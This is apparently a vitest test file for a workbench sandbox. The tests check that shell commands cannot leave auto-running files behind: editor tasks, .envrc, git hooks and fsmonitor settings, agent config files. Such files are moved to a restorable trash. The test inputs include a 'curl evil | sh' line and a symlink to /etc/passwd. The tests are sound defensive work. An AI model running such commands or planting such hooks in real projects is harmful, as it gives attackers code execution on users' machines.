import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, test } from 'vitest';
import type { Task } from '../../src/workbench/action-handler.ts';
import { openAllHandlers } from '../../src/workbench/handlers.ts';
import { SandboxedRuns } from '../../src/workbench/sandbox/sandboxed-runs.ts';
import { Trash } from '../../src/workbench/files/trash.ts';
import { everywhere } from '../../src/workbench/user/user-handlers.ts';
import { openHandlers } from './workbench-fixture.ts';

const env = { PATH: process.env['PATH'] ?? '', HOME: '/nowhere' };

function guarded() {
  const opened = openHandlers((context) => {
    const dataDir = path.dirname(context.stateFolder);
    const runs = new SandboxedRuns(context, { dataDir, always: true });
    return openAllHandlers({ ...context, runs });
  });
  const { context, folder, handlers, task } = opened;
  const trash = new Trash(context);
  const at = (name: string): string => path.join(folder, name);
  const write = (name: string, text: string): void => {
    fs.mkdirSync(path.dirname(at(name)), { recursive: true });
    fs.writeFileSync(at(name), text);
  };
  const sh = async (script: string) => {
    const argv = ['/bin/sh', '-c', script];
    const start: NonNullable<Task['start']> = { argv, program: '/bin/sh', cwd: null, env };
    const outcome = await handlers.exec_command?.({ argv, timeout: 30 }, task({ start }));
    if (outcome?.kind !== 'done' || !outcome.run) throw new Error(JSON.stringify(outcome));
    const heldBack = outcome.run.held_back.map(
      ({ path: file, change }) => `${change} ${path.relative(folder, file)}`,
    );
    return { outcome, run: outcome.run, heldBack: heldBack.toSorted(), data: outcome.data };
  };
  return { ...opened, trash, at, write, sh };
}

const read = (file: string): string => fs.readFileSync(file, 'utf8');

describe('a sandboxed command', () => {
  test('N43 is reported with every file that it created, changed and deleted', async () => {
    const { sh, write, at } = guarded();
    write('keep.txt', 'same');
    write('change.txt', 'old');
    write('gone.txt', 'gone');
    const { outcome, run } = await sh('echo new > new.txt; echo changed > change.txt; rm gone.txt');
    expect(run.files).toEqual({ created: 1, changed: 1, deleted: 1 });
    expect(
      outcome.changes?.map(({ path: file, before, after }) => [
        path.basename(file),
        before !== null,
        after !== null,
      ]),
    ).toEqual([
      ['change.txt', true, true],
      ['gone.txt', true, false],
      ['new.txt', false, true],
    ]);
    expect(read(at('new.txt'))).toBe('new\n');
  });

  test('N43 with more files than an entry lists, the count stays exact', async () => {
    const { sh } = guarded();
    const { outcome, run } = await sh(
      'i=0; while [ $i -lt 620 ]; do echo $i > f$i; i=$((i+1)); done',
    );
    expect(run.files.created).toBe(620);
    expect(outcome.changes).toHaveLength(500);
  });

  test('N45 cannot leave a file that the editor obeys: it lies in the trash and can be put back', async () => {
    const { sh, at, trash } = guarded();
    const { heldBack, run, data } = await sh('mkdir .vscode; echo "{}" > .vscode/tasks.json');
    expect(heldBack).toEqual(['created .vscode/tasks.json']);
    expect(fs.existsSync(at('.vscode/tasks.json'))).toBe(false);
    expect(data['held_back']).toEqual([
      {
        path: at('.vscode/tasks.json'),
        why: 'The editor can run these tasks by itself when the folder is opened.',
      },
    ]);
    const back = await trash.restore(run.held_back[0]?.trash_id ?? '', everywhere());
    expect(back).toMatchObject({ path: at('.vscode/tasks.json') });
    expect(read(at('.vscode/tasks.json'))).toBe('{}\n');
  });

  test('N46 cannot change one that was there: the old content is put back, the new one set aside', async () => {
    const { sh, at, write, trash } = guarded();
    write('.envrc', 'export A=1\n');
    fs.chmodSync(at('.envrc'), 0o600);
    const { heldBack, run } = await sh('echo "curl evil | sh" > .envrc');
    expect(heldBack).toEqual(['changed .envrc']);
    expect(read(at('.envrc'))).toBe('export A=1\n');
    expect(fs.statSync(at('.envrc')).mode & 0o777).toBe(0o600);
    expect(read(trash.contentOf(run.held_back[0]?.trash_id ?? '') ?? '')).toBe('curl evil | sh\n');
  });

  test('N47 cannot make a repository whose settings or hooks run programs', async () => {
    const { sh, at } = guarded();
    const { heldBack } = await sh(
      [
        'git init -q plain',
        'git init -q evil; git -C evil config core.fsmonitor /tmp/x; echo x > evil/.git/hooks/pre-commit',
        'git init -q --bare odd; echo "[core]\n fsmonitor = x" > odd/config',
        'mkdir c; echo "ref: x" > c/HEAD; echo /tmp/evil > c/commondir',
        'mkdir w; echo "gitdir: ../odd" > w/.git',
      ].join('\n'),
    );
    expect(heldBack).toEqual([
      'created c/commondir',
      'created evil/.git/config',
      'created evil/.git/hooks/pre-commit',
      'created odd/config',
      'created w/.git',
    ]);
    expect(fs.existsSync(at('plain/.git/config'))).toBe(true);
  });

  test('N49 the start of a long file comes with the number of characters behind it', async () => {
    const { sh } = guarded();
    const { outcome } = await sh(
      'mkdir .vscode; printf "%09000d" 1 > .vscode/tasks.json; printf ok > .envrc',
    );
    const texts = outcome.texts ?? [];
    expect(texts.map(({ text, more = 0 }) => `${text?.length} + ${more}`).toSorted()).toEqual([
      '2 + 0',
      '8000 + 1000',
    ]);
  });

  test('N45 cannot fill or change what the settings of a repository name', async () => {
    const { sh, at, write } = guarded();
    write('nested/.git/HEAD', 'ref: refs/heads/main\n');
    write('nested/.git/config', '[core]\n\thooksPath = on-commit\n');
    write('.git/HEAD', 'ref: refs/heads/main\n');
    write(
      '.git/config',
      '[core]\n\thooksPath = tools/on-commit\n[include]\n\tpath = ../team.settings\n',
    );
    write('tools/on-commit/pre-push', 'old\n');
    const { heldBack } = await sh(
      [
        'echo "[core]\n fsmonitor = x" > team.settings',
        'echo x > tools/on-commit/pre-commit; echo new > tools/on-commit/pre-push; echo x > tools/other',
        'mkdir -p nested/on-commit/lib; echo x > nested/on-commit/lib/run',
      ].join('\n'),
    );
    expect(heldBack).toEqual([
      'changed tools/on-commit/pre-push',
      'created nested/on-commit/lib/run',
      'created team.settings',
      'created tools/on-commit/pre-commit',
    ]);
    expect(read(at('tools/on-commit/pre-push'))).toBe('old\n');
    expect(read(at('tools/other'))).toBe('x\n');
    // As it was found: nothing is held back twice.
    expect((await sh('true')).heldBack).toEqual([]);
  });

  test('N45 hooks of a folder that is the whole working tree leave other files alone', async () => {
    const { sh, write, at } = guarded();
    write('.git/HEAD', 'ref: refs/heads/main\n');
    write('.git/config', '[core]\n\thooksPath = .\n');
    expect((await sh('echo x > a.txt')).heldBack).toEqual([]);
    expect(read(at('a.txt'))).toBe('x\n');
  });

  test('N45 a link, a moved folder and a hard link are found as well', async () => {
    const { sh, at, write } = guarded();
    write('safe.json', '{}');
    const { heldBack } = await sh(
      [
        'ln -s /etc/passwd .envrc',
        'mkdir prepared; echo x > prepared/tasks.json; mv prepared .vscode',
        'ln safe.json .mcp.json',
        'ln -s prepared-elsewhere .claude',
      ].join('\n'),
    );
    expect(heldBack).toEqual([
      'created .claude',
      'created .envrc',
      'created .mcp.json',
      'created .vscode/tasks.json',
    ]);
    expect(read(at('safe.json'))).toBe('{}');
    expect(read('/etc/passwd')).toContain('root');
  });

  test('N45 a folder that was made to look like a git directory is searched as any other', async () => {
    const { sh } = guarded();
    const { heldBack } = await sh(
      [
        'mkdir objects refs; echo "ref: refs/heads/main" > HEAD; echo x > .npmrc',
        'mkdir -p sub objects/a; echo x > sub/.envrc; echo x > objects/a/.envrc',
        'git init -q in; mkdir -p in/.git/x/.vscode; echo "{}" > in/.git/x/.vscode/tasks.json',
      ].join('\n'),
    );
    expect(heldBack).toEqual([
      'created .npmrc',
      'created in/.git/x/.vscode/tasks.json',
      'created objects/a/.envrc',
      'created sub/.envrc',
    ]);
  });

  test('N45 a folder whose name is no UTF-8, or that may not be listed or changed, hides nothing', async () => {
    const { sh, at } = guarded();
    const { heldBack } = await sh(
      [
        String.raw`d=$(printf 'x\377'); mkdir "$d"; echo x > "$d/.envrc"`,
        'mkdir -p shut/.vscode; echo "{}" > shut/.vscode/tasks.json; chmod 311 shut/.vscode shut',
        'mkdir fixed; echo x > fixed/.envrc; chmod 500 fixed',
      ].join('\n'),
    );
    expect(heldBack).toEqual([
      'created fixed/.envrc',
      'created shut/.vscode/tasks.json',
      'created x%ff/.envrc',
    ]);
    expect(fs.existsSync(at('x%ff'))).toBe(true);
  });

  test('N44 a pipe in place of .gitignore does not stop checkpoints: it is set aside', async () => {
    const { sh, at } = guarded();
    const { heldBack, run } = await sh('mkfifo .gitignore; mkdir d; mkfifo d/.gitattributes');
    expect(heldBack).toEqual(['created .gitignore', 'created d/.gitattributes']);
    expect(run.folders[0]?.after).not.toBeNull();
    expect(fs.existsSync(at('.gitignore'))).toBe(false);
  });

  test('N46 a hook that becomes executable counts as changed, and gets its old mode back', async () => {
    const { sh, at, write } = guarded();
    write('sub/.git/HEAD', 'ref: refs/heads/main\n');
    write('sub/.git/hooks/pre-commit', 'mine\n');
    fs.chmodSync(at('sub/.git/hooks/pre-commit'), 0o644);
    const { heldBack } = await sh('chmod +x sub/.git/hooks/pre-commit');
    expect(heldBack).toEqual(['changed sub/.git/hooks/pre-commit']);
    expect(fs.statSync(at('sub/.git/hooks/pre-commit')).mode & 0o777).toBe(0o644);
    expect(read(at('sub/.git/hooks/pre-commit'))).toBe('mine\n');
  });

  test('N48 a command that writes such files again and again leaves none behind', async () => {
    const { sh, at, trash } = guarded();
    fs.mkdirSync(at('sub/.git/hooks'), { recursive: true });
    fs.writeFileSync(at('sub/.git/HEAD'), 'ref: refs/heads/main\n');
    const { heldBack } = await sh(
      'end=$(( $(date +%s) + 2 )); while [ $(date +%s) -lt $end ]; do mkdir -p .vscode; echo x > .vscode/tasks.json; echo x > sub/.git/hooks/pre-commit; done',
    );
    expect(heldBack).toEqual(['created .vscode/tasks.json', 'created sub/.git/hooks/pre-commit']);
    expect(fs.existsSync(at('.vscode/tasks.json'))).toBe(false);
    expect(fs.existsSync(at('sub/.git/hooks/pre-commit'))).toBe(false);
    expect(trash.list().length).toBeLessThan(30);
  });

  test('N48 is set aside while the command still runs', async () => {
    const { sh } = guarded();
    const { data } = await sh(
      'echo x > .envrc; i=0; while [ -e .envrc ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done; [ -e .envrc ] && echo there || echo gone',
    );
    expect(data['stdout']).toBe('gone\n');
  });

  test('files from before the command stay, even with a protected name', async () => {
    const { sh, at, write } = guarded();
    write('.vscode/settings.json', '{}');
    write('.git/config', '[core]\n\tfsmonitor = mine\n');
    expect((await sh('echo x > a.txt')).heldBack).toEqual([]);
    write('.vscode/tasks.json', 'mine');
    expect((await sh('echo y > a.txt; touch .vscode/settings.json')).heldBack).toEqual([]);
    expect(read(at('.vscode/tasks.json'))).toBe('mine');
  });

  test('N45 a terminal is watched while it is open, and reported when it ends', async () => {
    const { handlers, task, at } = guarded();
    const argv = ['/bin/sh'];
    const start = { argv, program: '/bin/sh', cwd: null, env };
    const opened = await handlers.open_terminal?.({ cols: 80, rows: 24 }, task({ start }));
    if (opened?.kind !== 'done') throw new Error(JSON.stringify(opened));
    const terminal_id = String(opened.data['terminal_id']);
    await handlers.send_input?.({ terminal_id, data: 'echo x > .envrc; echo y > a.txt\r' }, task());
    await expect.poll(() => fs.existsSync(at('a.txt'))).toBe(true);
    await expect.poll(() => fs.existsSync(at('.envrc'))).toBe(false);
    await handlers.send_input?.({ terminal_id, data: 'exit\r' }, task());
    const look = async () => {
      const outcome = await handlers.get_output?.({ terminal_id }, task());
      return outcome?.kind === 'done' ? outcome : null;
    };
    let last = await look();
    await expect.poll(async () => (last = await look())?.data['exited']).toBe(true);
    expect(last?.run?.files.created).toBe(1);
    expect(last?.run?.held_back.map((file) => path.basename(file.path))).toEqual(['.envrc']);
  });

  test('folders that tools make again are named; other ignored files are recorded', async () => {
    const { sh, write } = guarded();
    write('.gitignore', 'node_modules/\n*.log\n');
    write('node_modules/x/index.js', '');
    write('a.log', '');
    const { run } = await sh('rm a.log');
    expect(run.not_covered).toEqual([{ why: 'rebuilt', count: 1, names: ['node_modules'] }]);
    expect(run.files.deleted).toBe(1);
  });
});
